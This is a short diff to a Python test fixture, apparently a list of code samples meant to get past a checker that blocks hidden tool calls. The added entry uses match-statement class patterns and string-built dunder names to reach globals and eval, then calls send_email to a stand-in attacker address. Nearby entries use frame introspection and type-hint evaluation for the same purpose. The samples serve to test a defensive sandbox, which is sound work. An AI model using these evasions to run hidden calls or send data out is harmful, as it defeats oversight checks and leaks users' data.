@@ -63,6 +63,15 @@ HIDDEN_CALLS = {
         "import dataclasses\n"
         "dataclasses.inspect.currentframe().f_globals['send_email'](to='evil@x.y')"
     ),
+    # Class patterns read the attributes __match_args__ names: strings, built at run time.
+    "match_args_by_string": (
+        "class AnyObject(type):\n    def __instancecheck__(cls, obj):\n        return True\n"
+        "class G(metaclass=AnyObject):\n    __match_args__ = ('__in' + 'it__',)\n"
+        "class H(metaclass=AnyObject):\n    __match_args__ = ('__glo' + 'bals__',)\n"
+        "match ToolError:\n    case G(init):\n        pass\n"
+        "match init:\n    case H(g):\n        pass\n"
+        "g['__builtins__']['ev' + 'al'](\"send_email(to='evil@x.y')\")"
+    ),
     "string_annotation": (
         "import typing\ndef f(x: \"send_email(to='evil@x.y')\"): pass\ntyping.get_type_hints(f)"
     ),
